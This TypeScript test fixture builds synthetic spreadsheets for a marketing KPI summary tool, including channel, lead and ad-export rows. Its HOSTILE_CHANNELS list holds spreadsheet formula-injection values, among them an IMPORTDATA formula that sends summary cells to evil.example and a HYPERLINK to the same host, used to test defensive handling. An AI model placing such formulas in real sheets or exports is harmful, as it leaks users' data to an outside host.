// Small workbooks for summary tests: an aggregated sheet and a record-level lead log, with known numbers.
import type { CellValue } from "../../src/kpi/cells";
import { MAPPING_VERSION, type FunnelMapping } from "../../src/server/mapping/mapping-types";

export const AGG_HEADERS = ["Date", "Channel", "Spend", "Sessions", "Leads", "New customers", "Revenue"];

/** 2 channels × every 5th day of Jan–Apr 2025, with counts that vary by day so periods differ. */
export function aggregatedRows(): CellValue[][] {
  const rows: CellValue[][] = [];
  for (let month = 0; month < 4; month++) {
    for (let day = 1; day <= 28; day += 5) {
      const k = month * 10 + day;
      rows.push([new Date(2025, month, day), "Search", 100 + k, 1000 + 10 * k, 50 + k, 5 + (k % 7), 400 + 3 * k]);
      rows.push([new Date(2025, month, day), "Social", 60 + k, 2000 + 5 * k, 30 + (k % 11), 2 + (k % 3), 150 + k]);
    }
  }
  return rows;
}

export const LEAD_HEADERS = ["Lead ID", "Source", "Created", "MQL date", "Won date", "Deal value"];

/** 40 leads over Jan–Mar 2025; some reach MQL, fewer are won, with the deal value on won rows. */
export function leadRows(): CellValue[][] {
  const rows: CellValue[][] = [];
  for (let i = 0; i < 40; i++) {
    const created = new Date(2025, 0, 1 + i * 2);
    const mql = i % 3 === 0 ? "" : new Date(2025, 0, 3 + i * 2);
    const won = mql === "" || i % 4 !== 1 ? "" : new Date(2025, 0, 10 + i * 2);
    rows.push([`L${i + 1}`, i % 2 === 0 ? "Ads" : "Email", created, mql, won, won === "" ? "" : 1000 + 10 * i]);
  }
  return rows;
}

export const AD_HEADERS = ["Day", "Campaign", "Cost", "Impressions", "Clicks", "Conversions", "Conv. value"];

/** A Google Ads-style daily export: 3 campaigns, every 3rd day of Jan–Mar 2025; impressions ≥ clicks ≥ conversions. */
export function adRows(): CellValue[][] {
  const rows: CellValue[][] = [];
  const campaigns = ["Brand", "Generic", "Competitor"];
  for (let day = 0; day < 90; day += 3) {
    campaigns.forEach((campaign, c) => {
      const impressions = 2000 + 97 * ((day + 11 * c) % 13);
      const clicks = Math.round(impressions * (0.02 + 0.01 * c)) + (day % 5);
      const conversions = Math.max(0, Math.round(clicks * 0.05) - (day % 3));
      rows.push([new Date(2025, 0, 1 + day), campaign, Math.round((clicks * (0.8 + 0.3 * c) + day) * 100) / 100, impressions, clicks, conversions, conversions * (40 + 5 * c)]);
    });
  }
  return rows;
}

/** The mapping an ad platform export gets: impressions → clicks → conversions, keyed so CTR, CPC and CPM apply. */
export function adMapping(sheetName = "Ads"): FunnelMapping {
  const col = (header: string) => ({ header, index: AD_HEADERS.indexOf(header) });
  return {
    version: MAPPING_VERSION, sheetName, headerRow: 1, shape: "aggregated",
    stages: [
      { key: "impressions", name: "Impressions", column: col("Impressions") },
      { key: "clicks", name: "Clicks", column: col("Clicks") },
      { key: "conversions", name: "Conversions", column: col("Conversions") },
    ],
    date: col("Day"), channel: col("Campaign"), spend: col("Cost"), revenue: col("Conv. value"),
  };
}

/** The values issue 12 names, as a lead form or an ad export could carry them, and neighbours they must not swallow. */
export const HOSTILE_CHANNELS = [
  `=IMPORTDATA("https://evil.example/c?v="&TEXTJOIN(",",1,'KPI Summary'!B15:B28))`,
  `=HYPERLINK("https://evil.example/"&B20,"click")`,
  "TRUE", "FALSE", "00123", "123", "+1", "-5", "*", "?", "~", "~*", "<>Paid search", ">5", "=x", "'quoted",
  "Paid search", "paid  search ", "Café", "Cafe", "#N/A", "5%", "$1,200", "1/2/2025", "2025-01-31",
];

export const HOSTILE_HEADERS = ["Date", "Channel", "Spend", "Sessions", "Leads", "New customers", "Revenue"];

/** Each channel on a few days, with amounts that differ per channel so a wrong match shows. */
export function hostileRows(): CellValue[][] {
  const rows: CellValue[][] = [];
  HOSTILE_CHANNELS.forEach((channel, i) => {
    for (const day of [3, 12, 20]) {
      rows.push([new Date(2025, 0, day), channel, 100 + 37 * i + day, 1000 + 11 * i, 40 + i, 3 + (i % 5), 300 + 13 * i]);
    }
  });
  return rows;
}

